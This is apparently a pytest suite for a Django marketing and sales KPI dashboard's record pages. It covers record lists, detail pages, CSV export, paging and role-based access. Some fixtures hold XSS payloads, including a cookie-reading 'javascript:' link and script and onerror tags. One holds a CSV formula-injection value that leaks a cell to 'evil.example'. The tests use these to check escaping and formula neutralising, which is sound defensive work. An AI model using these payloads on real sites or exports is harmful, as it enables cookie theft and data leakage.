"""The record pages (kpi_dashboard/views/records.py): the persons and opportunities behind
every dashboard number, their CSV downloads, and who may open them."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from io import StringIO
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.core.paginator import Paginator
from django.http import HttpResponse, StreamingHttpResponse
from django.template import Context, Template, TemplateSyntaxError
from django.test import Client
from django.utils import translation

from funnel.metrics.filters import KpiFilters
from funnel.models import Activity, Channel, Opportunity, Person, Source
from funnel.periods import parse_as_of
from tests.funnel.factories import activity, deal, jst, load, person, snapshot

RoleUser = Callable[[str], User]
SourceMaker = Callable[..., Source]

pytestmark = pytest.mark.django_db

QUESTION = {"period": "FY2026Q1", "as_of": "2026-06-15T00:00:00+09:00"}
AS_OF = parse_as_of(QUESTION["as_of"])
EXAMPLE_COUNTS = {
    "persons": {"leads": 33, "mqls": 11, "sqls": 9},
    "opportunities": {"opportunities": 5, "won_deals": 3, "lost_deals": 2},
}
URLS = ("/records/persons/", "/records/opportunities/")


@pytest.fixture
def example(example_dir: Path) -> None:
    for name in ("ma", "sfa"):
        call_command("import_csv", str(example_dir / "data" / name), source=name, stdout=StringIO())


@pytest.fixture
def sales(client: Client, role_user: RoleUser) -> Client:
    client.force_login(role_user("sales"))
    return client


def _html(response: HttpResponse) -> str:
    assert response.status_code == 200, response.content[:500]
    return response.content.decode()


def _heading_count(html: str) -> int:
    match = re.search(r'class="record-count" data-count="(\d+)"', html)
    assert match, "no number in the heading"
    return int(match[1])


def _row_ids(html: str) -> list[str]:
    table = re.search(r"<tbody>(.*?)</tbody>", html, flags=re.S)
    return re.findall(r'<tr data-id="(\d+)"', table[1]) if table else []


def _csv(response: Any) -> str:
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return b"".join(response.streaming_content).decode("utf-8")


def _persons(source: Source, count: int, **fields: Any) -> None:
    load(
        source,
        persons=[
            person(f"P{i}", jst(2026, 4, 1 + i % 60 // 2, 9), email=f"p{i}@x.jp", **fields)
            for i in range(count)
        ],
    )


# --- the numbers -------------------------------------------------------------------------


@pytest.mark.usefixtures("example")
@pytest.mark.parametrize(
    ("url", "kpi", "count"),
    [
        (f"/records/{kind}/", kpi, n)
        for kind, numbers in EXAMPLE_COUNTS.items()
        for kpi, n in numbers.items()
    ],
)
def test_it_lists_the_rows_behind_each_number_of_the_worked_example(
    sales: Client, url: str, kpi: str, count: int
) -> None:
    html = _html(sales.get(url, {"kpi": kpi, **QUESTION}, HTTP_ACCEPT_LANGUAGE="ja"))
    assert _heading_count(html) == count == snapshot(as_of=AS_OF)["kpis"][kpi]
    assert len(_row_ids(html)) == count
    assert "FY2026Q1" in html


@pytest.mark.usefixtures("example")
def test_it_names_the_number_in_the_heading(sales: Client) -> None:
    html = _html(sales.get("/records/persons/", {"kpi": "leads", **QUESTION}))
    heading = re.sub(r"<[^>]+>", "", re.search(r"<h1>(.*?)</h1>", html, flags=re.S)[1])
    assert heading.split() == ["新規リード獲得数", "FY2026Q1:", "33"]


@pytest.mark.usefixtures("example")
@pytest.mark.parametrize(
    "filters",
    [
        {"channel": "webinar"},
        {"channel": "outbound"},
        {"channel": "unknown"},
        {"origin": "sales"},
        {"industry": "IT", "company_size": "300+"},
    ],
)
def test_it_agrees_with_the_numbers_under_a_filter(sales: Client, filters: dict[str, str]) -> None:
    expected = snapshot(as_of=AS_OF, filters=KpiFilters(**filters))["kpis"]
    for kind, numbers in EXAMPLE_COUNTS.items():
        for kpi in numbers:
            html = _html(sales.get(f"/records/{kind}/", {"kpi": kpi, **filters, **QUESTION}))
            assert _heading_count(html) == expected[kpi], kpi
            assert len(_row_ids(html)) == expected[kpi], kpi


@pytest.mark.usefixtures("example")
def test_it_lists_a_cohort_with_who_converted(sales: Client) -> None:
    html = _html(sales.get("/records/persons/", {"kpi": "opportunity_rate", **QUESTION}))
    # The worked example: 2 of the 11 MQLs of FY2026Q1 reached an opportunity (18.2%).
    assert _heading_count(html) == 2
    assert "18.2%" in html
    assert len(_row_ids(html)) == 11
    assert html.count('class="status on_track"') == 2


@pytest.mark.usefixtures("example")
def test_it_lists_everyone_without_a_kpi_and_still_filters(sales: Client) -> None:
    html = _html(sales.get("/records/persons/", QUESTION))
    assert _heading_count(html) == Person.objects.count()
    sales_sourced = _html(sales.get("/records/persons/", {"origin": "sales", **QUESTION}))
    assert 0 < _heading_count(sales_sourced) < Person.objects.count()


def test_its_counts_read_with_thousands_separators(sales: Client, source: SourceMaker) -> None:
    """A list of thousands says "Rows 1,001–1,050 of 1,234", in both languages, and so does
    the page count of a list of thousands of pages."""
    _persons(source("ma", "ma"), 1234)
    params = {**QUESTION, "page": "21"}
    english = _html(sales.get("/records/persons/", params, HTTP_ACCEPT_LANGUAGE="en"))
    assert "Rows 1,001–1,050 of 1,234" in english
    japanese = _html(sales.get("/records/persons/", params, HTTP_ACCEPT_LANGUAGE="ja"))
    assert "1,234件中 1,001–1,050件目" in japanese
    pages = Paginator(range(60_000), 50).get_page(1001)
    with translation.override("en"):
        nav = Template('{% include "records/_pagination.html" %}').render(
            Context({"page": pages, "page_query": ""})
        )
    assert "Page 1,001 of 1,200" in nav


@pytest.mark.usefixtures("example")
def test_it_searches_name_email_and_company(sales: Client) -> None:
    params = {"kpi": "leads", "q": "USER199@", **QUESTION}
    html = _html(sales.get("/records/persons/", params, HTTP_ACCEPT_LANGUAGE="en"))
    assert _heading_count(html) == 33  # the number stays the dashboard's
    rows = _row_ids(html)
    assert rows == [str(Person.objects.get(email_normalized="user199@example3.co.jp").pk)]
    assert "1 match the search." in html
    by_company = _html(sales.get("/records/persons/", {**params, "q": "co15"}))
    assert str(Person.objects.get(email_normalized="user199@example3.co.jp").pk) in _row_ids(
        by_company
    )


# --- the detail pages --------------------------------------------------------------------


@pytest.mark.usefixtures("example")
def test_it_shows_a_merged_persons_identity_across_both_sources(sales: Client) -> None:
    merged = Person.objects.get(email_normalized="user4@example4.co.jp")
    html = _html(sales.get(f"/records/persons/{merged.pk}/", QUESTION))
    identity = re.search(r'data-records="source-records".*?</table>', html, flags=re.S)[0]
    assert re.findall(r'<tr data-source="([^"]+)"', identity) == ["ma", "sfa"]
    assert "<code>P4</code>" in identity and "<code>L4</code>" in identity
    # The email as each source holds it (the import trims the padding, keeps the case).
    assert ">USER4@EXAMPLE4.CO.JP<" in identity
    assert "user4@example4.co.jp" in identity
    # Its opportunity, linked to the opportunity page.
    deal_pk = Opportunity.objects.get(external_id="O1").pk
    assert f'href="/records/opportunities/{deal_pk}/' in html


def test_it_shows_the_stage_dates_history_and_timeline_of_a_person(
    sales: Client, source: SourceMaker
) -> None:
    ma = source("ma", "ma")
    load(
        ma,
        persons=[
            person(
                "P1",
                jst(2026, 4, 1, 10),
                email="p1@x.jp",
                name="Taro",
                mql_at=jst(2026, 4, 2, 11),
                disqualified_at=jst(2026, 4, 3),
                disqualify_reason="no_budget",
                owner="Sato",
                lead_score=80,
            )
        ],
        activities=[
            activity(
                "A1", jst(2026, 4, 1, 12), "page_view", person_external_id="P1", detail="/pricing"
            ),
            activity(
                "A2",
                jst(2026, 4, 1, 13),
                "email_click",
                person_external_id="P1",
                detail="https://example.jp/whitepaper?x=1&y=2",
            ),
            activity(
                "A3",
                jst(2026, 4, 1, 14),
                "email_click",
                person_external_id="P1",
                detail="javascript:alert(document.cookie)",
            ),
            activity(
                "A4",
                jst(2026, 4, 1, 15),
                "email_click",
                person_external_id="P1",
                detail=" JavaScript:alert(1)//https://x.jp",
            ),
            activity(
                "A5",
                jst(2026, 4, 1, 16),
                "download",
                person_external_id="P1",
                detail='"><script>alert(1)</script>',
            ),
        ],
    )
    taro = Person.objects.get()
    html = _html(sales.get(f"/records/persons/{taro.pk}/", HTTP_ACCEPT_LANGUAGE="en"))
    stages = re.search(r"data-stages>(.*?)</dl>", html, flags=re.S)[1]
    assert "2026-04-01 10:00" in stages and "2026-04-02 11:00" in stages
    assert "No budget" in stages
    assert "Sato" in html and ">80<" in html
    timeline = re.search(r'data-records="activities">(.*?)</ol>', html, flags=re.S)[1]
    links = re.findall(r'<a class="detail" href="([^"]*)"', timeline)
    assert links == ["https://example.jp/whitepaper?x=1&amp;y=2"]
    assert "javascript:" not in " ".join(re.findall(r'href="([^"]*)"', html)).lower()
    assert "javascript:alert(document.cookie)" in timeline  # shown, as text
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in timeline
    assert '<code class="detail verbatim">/pricing</code>' in timeline
    history = re.search(r'data-records="stage-history".*?</table>', html, flags=re.S)[0]
    assert "MQL" in history and "2026-04-02 11:00" in history


@pytest.mark.usefixtures("example")
def test_it_shows_an_opportunity_with_its_person_and_history(sales: Client) -> None:
    won = Opportunity.objects.get(external_id="O3")
    html = _html(
        sales.get(f"/records/opportunities/{won.pk}/", QUESTION, HTTP_ACCEPT_LANGUAGE="en")
    )
    assert "¥4,000,000" in html
    assert f'href="/records/persons/{won.person_id}/' in html
    assert 'data-records="changes"' in html
    unlinked = Opportunity.objects.filter(person__isnull=True).first()
    assert unlinked is not None
    html = _html(sales.get(f"/records/opportunities/{unlinked.pk}/", HTTP_ACCEPT_LANGUAGE="en"))
    assert "unlinked" in html


def test_it_answers_404_for_a_record_that_does_not_exist(sales: Client) -> None:
    assert sales.get("/records/persons/999999/").status_code == 404
    assert sales.get("/records/opportunities/999999/").status_code == 404


def test_it_escapes_what_the_sources_sent(sales: Client, source: SourceMaker) -> None:
    load(
        source("ma", "ma"),
        persons=[person("X", jst(2026, 4, 1), name="<img src=x onerror=alert(1)>", email="x@x.jp")],
    )
    html = _html(sales.get("/records/persons/", {"period": "FY2026Q1"}))
    assert "<img src=x" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    searched = _html(sales.get("/records/persons/", {"q": "<svg onload=alert(1)>"}))
    assert "<svg" not in searched
    assert "&lt;svg onload=alert(1)&gt;" in searched


# --- CSV ---------------------------------------------------------------------------------


def test_it_exports_every_row_as_csv_with_a_bom_and_no_formulas(
    sales: Client, source: SourceMaker
) -> None:
    ma = source("ma", "ma")
    _persons(ma, 60, channel="webinar")
    load(
        ma,
        persons=[
            person(
                "F1",
                jst(2026, 4, 5),
                email="f1@x.jp",
                name='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
            ),
            person("F2", jst(2026, 4, 5), email="f2@x.jp", name="+81 3 1234", company="@SUM(A1)"),
            person("F3", jst(2026, 4, 5), email="f3@x.jp", name="-2+3", company="\tTab Co"),
            person(
                "F4", jst(2026, 4, 5), email="f4@x.jp", name="普通の名前", company="株式会社テスト"
            ),
        ],
    )
    body = _csv(sales.get("/records/persons/", {"kpi": "leads", "format": "csv", **QUESTION}))
    assert body.startswith("\ufeffid,name,email,")
    rows = list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"))))
    assert len(rows) == 64  # every row, not one page of 50
    by_email = {row["email"]: row for row in rows}
    assert by_email["f1@x.jp"]["name"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    assert by_email["f2@x.jp"]["name"] == "'+81 3 1234"
    assert by_email["f2@x.jp"]["company"] == "'@SUM(A1)"
    assert by_email["f3@x.jp"]["name"] == "'-2+3"
    assert by_email["f3@x.jp"]["company"] == "'\tTab Co"
    assert by_email["f4@x.jp"]["company"] == "株式会社テスト"
    assert by_email["f4@x.jp"]["lead_at"] == "2026-04-05 00:00:00"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.mark.usefixtures("example")
@pytest.mark.parametrize(
    ("url", "kpi", "count"),
    [("/records/persons/", "mqls", 11), ("/records/opportunities/", "won_deals", 3)],
)
def test_it_exports_the_same_rows_as_the_number(
    sales: Client, url: str, kpi: str, count: int
) -> None:
    response = sales.get(url, {"kpi": kpi, "format": "csv", **QUESTION})
    assert (
        response["Content-Disposition"]
        == f'attachment; filename="{url.split("/")[2]}-{kpi}-FY2026Q1.csv"'
    )
    assert len(_csv(response).splitlines()) == count + 1


@pytest.mark.usefixtures("example")
def test_it_marks_the_converted_cohort_members_in_the_csv(sales: Client) -> None:
    body = _csv(
        sales.get(
            "/records/opportunities/",
            {"kpi": "opportunity_to_won_rate", "format": "csv", **QUESTION},
        )
    )
    rows = list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"))))
    assert [row["converted"] for row in rows].count("true") == 2
    assert len(rows) == 5


# --- pages, paging, empty, errors --------------------------------------------------------


def test_it_pages_fifty_rows_at_a_time(sales: Client, source: SourceMaker) -> None:
    _persons(source("ma", "ma"), 120)
    params = {"kpi": "leads", **QUESTION}
    first = _html(sales.get("/records/persons/", params))
    assert _heading_count(first) == 120
    assert len(_row_ids(first)) == 50
    assert "page=2" in first and 'rel="next"' in first
    third = _html(sales.get("/records/persons/", {**params, "page": "3"}))
    assert len(_row_ids(third)) == 20
    seen = set(_row_ids(first)) | set(_row_ids(third))
    seen |= set(_row_ids(_html(sales.get("/records/persons/", {**params, "page": "2"}))))
    assert len(seen) == 120
    # A page past the end shows the last one; the page links keep the question.
    assert _row_ids(_html(sales.get("/records/persons/", {**params, "page": "99"}))) == _row_ids(
        third
    )
    assert (
        "kpi=leads&amp;period=FY2026Q1&amp;as_of=2026-06-15T00%3A00%3A00%2B09%3A00&amp;page=2"
        in first
    )


@pytest.mark.parametrize("url", URLS)
def test_it_shows_an_empty_state_instead_of_an_empty_table(sales: Client, url: str) -> None:
    html = _html(sales.get(url, QUESTION, HTTP_ACCEPT_LANGUAGE="en"))
    assert 'class="empty-state' in html
    assert "<table" not in html


@pytest.mark.usefixtures("example")
def test_it_shows_an_empty_state_for_a_search_without_matches(sales: Client) -> None:
    html = _html(sales.get("/records/persons/", {"kpi": "leads", "q": "nobody-at-all", **QUESTION}))
    assert 'class="empty-state' in html
    assert "nobody-at-all" in html


@pytest.mark.parametrize(
    ("url", "params", "message"),
    [
        ("/records/persons/", {"kpi": "won_amount"}, "won_amount"),
        ("/records/persons/", {"kpi": "won_deals"}, "won_deals"),
        ("/records/opportunities/", {"kpi": "leads"}, "leads"),
        ("/records/persons/", {"period": "FY2026Q9"}, "FY2026Q9"),
        ("/records/opportunities/", {"as_of": "yesterday"}, "yesterday"),
        ("/records/persons/", {"origin": "partner"}, "partner"),
        ("/records/persons/", {"format": "xlsx"}, "csv"),
        ("/records/persons/1/", {"period": "FY2026Q9"}, "FY2026Q9"),
    ],
)
def test_it_answers_bad_parameters_with_400_and_the_reason(
    sales: Client, url: str, params: dict[str, str], message: str
) -> None:
    response = sales.get(url, params)
    assert response.status_code == 400
    assert message in response.content.decode()


@pytest.mark.usefixtures("example")
def test_it_links_back_to_the_dashboard_with_the_same_question(sales: Client) -> None:
    params = {"kpi": "leads", "channel": "webinar", "q": "user", "page": "1", **QUESTION}
    html = _html(sales.get("/records/persons/", params))
    back = re.search(r'<p class="crumbs"><a href="([^"]+)"', html)[1].replace("&amp;", "&")
    path, _, query = back.partition("?")
    assert path == "/"
    assert parse_qs(query) == {
        "period": ["FY2026Q1"],
        "as_of": ["2026-06-15T00:00:00+09:00"],
        "channel": ["webinar"],
    }
    # Rows link to the detail page carrying the list's question, which links back to it.
    detail = re.search(r'<td><a href="(/records/persons/\d+/\?[^"]+)"', html)[1]
    assert "kpi=leads" in detail and "q=user" in detail
    page = _html(sales.get(detail.replace("&amp;", "&")))
    assert 'href="/records/persons/?kpi=leads&amp;channel=webinar&amp;q=user' in page


# --- who may see them --------------------------------------------------------------------


@pytest.mark.usefixtures("example")
@pytest.mark.parametrize("role", ["marketing", "sales", "ops_admin"])
def test_it_opens_the_record_pages_to_marketing_sales_and_ops(
    client: Client, role_user: RoleUser, role: str
) -> None:
    client.force_login(role_user(role))
    pk = Person.objects.first().pk  # type: ignore[union-attr]
    opp = Opportunity.objects.first().pk  # type: ignore[union-attr]
    for url in (*URLS, f"/records/persons/{pk}/", f"/records/opportunities/{opp}/"):
        assert client.get(url, QUESTION).status_code == 200, url
    home = _html(client.get("/"))
    assert 'href="/records/persons/"' in home


@pytest.mark.usefixtures("example")
def test_it_refuses_executives(client: Client, role_user: RoleUser) -> None:
    client.force_login(role_user("executive"))
    pk = Person.objects.first().pk  # type: ignore[union-attr]
    for url in (*URLS, f"/records/persons/{pk}/", "/records/persons/?format=csv"):
        assert client.get(url).status_code == 403, url
    assert 'href="/records/persons/"' not in _html(client.get("/"))


def test_it_sends_an_anonymous_visitor_to_login(client: Client) -> None:
    for url in (*URLS, "/records/persons/1/", "/records/opportunities/1/?format=csv"):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith("/accounts/login/?next=/records/")


def test_it_refuses_a_user_without_a_role(client: Client) -> None:
    client.force_login(User.objects.create_user("nobody", password="a-long-test-password"))
    assert client.get("/records/persons/").status_code == 403


@pytest.mark.parametrize(
    ("role", "areas"),
    [
        ("executive", {"dashboard", "reports"}),
        ("sales", {"dashboard", "reports", "records"}),
        ("ops_admin", {"dashboard", "reports", "records", "admin"}),
    ],
)
def test_the_has_role_filter_maps_areas_to_the_roles_of_access(
    role_user: RoleUser, role: str, areas: set[str]
) -> None:
    user = role_user(role)
    template = Template(
        "{% load roles %}{% for a in areas %}"
        "{% if user|has_role:a %}{{ a }} {% endif %}{% endfor %}"
    )
    all_areas = ["dashboard", "reports", "records", "admin"]
    shown = template.render(Context({"user": user, "areas": all_areas})).split()
    assert set(shown) == areas
    with pytest.raises(TemplateSyntaxError, match="unknown area"):
        Template('{% load roles %}{{ user|has_role:"record" }}').render(Context({"user": user}))


# --- queries -----------------------------------------------------------------------------


@pytest.mark.parametrize("url", URLS)
def test_the_lists_read_a_fixed_number_of_queries(
    sales: Client, source: SourceMaker, django_assert_max_num_queries: Any, url: str
) -> None:
    sfa = source("sfa", "sfa")
    _persons(sfa, 80, channel="webinar", owner="Sato", industry="IT")
    load(
        sfa,
        deals=[
            deal(
                f"O{i}",
                jst(2026, 4, 2),
                "won",
                100,
                person_external_id=f"P{i}",
                account=f"Co{i}",
                closed_at=jst(2026, 5, 1),
            )
            for i in range(80)
        ],
    )
    sales.get(url, QUESTION)  # warm the session and the user's roles
    # session, user, language, roles; the MQL/SQL definition (qualification modes); 2 counts;
    # 3 filter choices, channels; one page of rows.
    with django_assert_max_num_queries(12):
        html = _html(sales.get(url, QUESTION))
    assert len(_row_ids(html)) == 50


def test_the_detail_pages_read_a_fixed_number_of_queries(
    sales: Client, source: SourceMaker, django_assert_max_num_queries: Any
) -> None:
    ma = source("ma", "ma")
    load(
        ma,
        persons=[person("P1", jst(2026, 4, 1), email="p1@x.jp", mql_at=jst(2026, 4, 2))],
        deals=[deal(f"O{i}", jst(2026, 4, 3), person_external_id="P1") for i in range(5)],
        activities=[
            activity(f"A{i}", jst(2026, 4, 1, 12), person_external_id="P1", detail="/p")
            for i in range(30)
        ],
    )
    pk = Person.objects.get().pk
    assert Activity.objects.count() == 30
    # 4 for the request; person, activity count, activities, sources, deals, history,
    # sales feedback; the MQL/SQL definition at as_of and now (qualification modes); the
    # ops admins' rejection reasons; the page view counted for the checklist.
    with django_assert_max_num_queries(15):
        _html(sales.get(f"/records/persons/{pk}/"))
    opp = Opportunity.objects.first().pk  # type: ignore[union-attr]
    with django_assert_max_num_queries(6):
        _html(sales.get(f"/records/opportunities/{opp}/"))


@pytest.mark.django_db
def test_the_search_finds_an_email_in_any_case_beyond_ascii() -> None:
    """Normalised emails are compared byte by byte on PostgreSQL (KeyField): the search
    lowers its text instead of folding the column's case."""
    from records.lists import _person_search

    source = Source.objects.create(name="ma", kind="csv")
    load(source, persons=[person("E1", jst(2026, 5, 1), email="Élodie.Ümit@Example.JP")])
    for text in ("élodie.ümit@", "ÉLODIE.ÜMIT@EXAMPLE", "Ümit@example.jp"):
        assert Person.objects.filter(_person_search(text)).count() == 1, text


@pytest.mark.usefixtures("example")
def test_it_names_channels_as_the_dashboard_does(sales: Client) -> None:
    """An ops admin's channel name, not the key the source sent; no channel: unknown."""
    Channel.objects.filter(key="webinar").update(name="ウェビナー")
    webinar = Person.objects.filter(channel__key="webinar").first()
    assert webinar is not None
    persons = _html(sales.get("/records/persons/", {"channel": "webinar", **QUESTION}))
    row = re.search(rf'<tr data-id="{webinar.pk}"[^>]*>(.*?)</tr>', persons, flags=re.S)
    assert row and '<td class="nowrap">ウェビナー<br>' in row[1]
    detail = _html(sales.get(f"/records/persons/{webinar.pk}/"))
    assert "ウェビナー" in detail
    deals = _html(sales.get("/records/opportunities/", {"kpi": "opportunities", **QUESTION}))
    unlinked = Opportunity.objects.filter(person__isnull=True, channel__isnull=True).first()
    linked = Opportunity.objects.filter(person__channel__key="webinar").first()
    for opportunity, shown in ((linked, "ウェビナー"), (unlinked, "不明(チャネルなし)")):
        if opportunity is None:
            continue
        page = _html(sales.get(f"/records/opportunities/{opportunity.pk}/"))
        assert shown in page
        row = re.search(rf'<tr data-id="{opportunity.pk}"[^>]*>(.*?)</tr>', deals, flags=re.S)
        assert row is None or shown in row[1]
